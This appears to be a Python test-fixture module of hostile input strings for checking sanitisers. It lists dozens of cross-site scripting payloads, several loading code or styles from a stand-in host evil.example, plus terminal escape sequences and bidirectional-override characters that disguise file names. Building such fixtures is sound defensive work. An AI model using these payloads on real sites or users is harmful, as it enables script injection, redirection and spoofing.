"""Texts that would like to be more than text: scripts, control sequences, marks that turn the direction of what follows."""

SCRIPTS = (
    "<script>window.hit=1</script>", "<ScRiPt>window.hit=1</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "<script>window.hit=1//", "</script><script>window.hit=1</script>", "</title><script>window.hit=1</script>",
    "</textarea><script>window.hit=1</script>", "--><script>window.hit=1</script>", "]]><script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>", '"><img src=x onerror=window.hit=1>', "'><img src=x onerror=window.hit=1>",
    "<img src=`x`onerror=window.hit=1>", "<img/src=x/onerror=window.hit=1>", "<IMG SRC=javascript:window.hit=1>",
    "<svg onload=window.hit=1>", "<svg/onload=window.hit=1>", "<svg><script>window.hit=1</script></svg>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>", "<svg><set onbegin=window.hit=1>",
    "<body onload=window.hit=1>", "<iframe src=javascript:parent.hit=1>", "<iframe srcdoc='<script>parent.hit=1</script>'>",
    "<object data=javascript:window.hit=1>", "<embed src=javascript:window.hit=1>", "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css'</style>",
    "<style>*{background:url(//evil.example/x)}</style>", "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<form action=//evil.example/><input type=submit>", "<input autofocus onfocus=window.hit=1>",
    "<select autofocus onfocus=window.hit=1>", "<textarea autofocus onfocus=window.hit=1>",
    "<details open ontoggle=window.hit=1>",
    "<video><source onerror=window.hit=1>", "<audio src=x onerror=window.hit=1>", "<marquee onstart=window.hit=1>",
    "<a href=javascript:window.hit=1>click</a>", "<a href='java\tscript:window.hit=1'>click</a>",
    "<a href=data:text/html,<script>window.hit=1</script>>click</a>", "<math><mi xlink:href=javascript:window.hit=1>x",
    "javascript:window.hit=1", "JaVaScRiPt:window.hit=1", "data:text/html,<script>window.hit=1</script>",
    "vbscript:window.hit=1", "//evil.example/x", "\\\\evil.example\\x", "' onmouseover=window.hit=1 '",
    '" onmouseover=window.hit=1 "', "';window.hit=1;//", '";window.hit=1;//', "`${window.hit=1}`", "${window.hit=1}",
    "{{constructor.constructor('window.hit=1')()}}", "#{window.hit=1}", "<%= window.hit=1 %>", "&lt;script&gt;window.hit=1",
    "\\u003cscript\\u003ewindow.hit=1\\u003c/script\\u003e", "%3Cscript%3Ewindow.hit=1%3C/script%3E",
    "<template><script>window.hit=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
)  # fmt: skip

SEQUENCES = (
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;http://evil.example/\x07link\x1b]8;;\x07", "\x1b[2J\x1b[H", "\x9b31m",
    "a\bb\rc", "bell\x07", "\x7f",
)  # fmt: skip

MARKS = (
    "user\u202etxt.exe", "\u2066isolated\u2069", "\u200fright", "zero\u200bwidth", "\ufeffmark", "\u2028line",
    "tag\U000e0041s",
)  # fmt: skip

ALL = (*SCRIPTS, *SEQUENCES, *MARKS)
HIDDEN = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b\u200e\u200f\ufeff\x1b\x07\x9b\x7f"
"""None of these is ever seen as it is."""
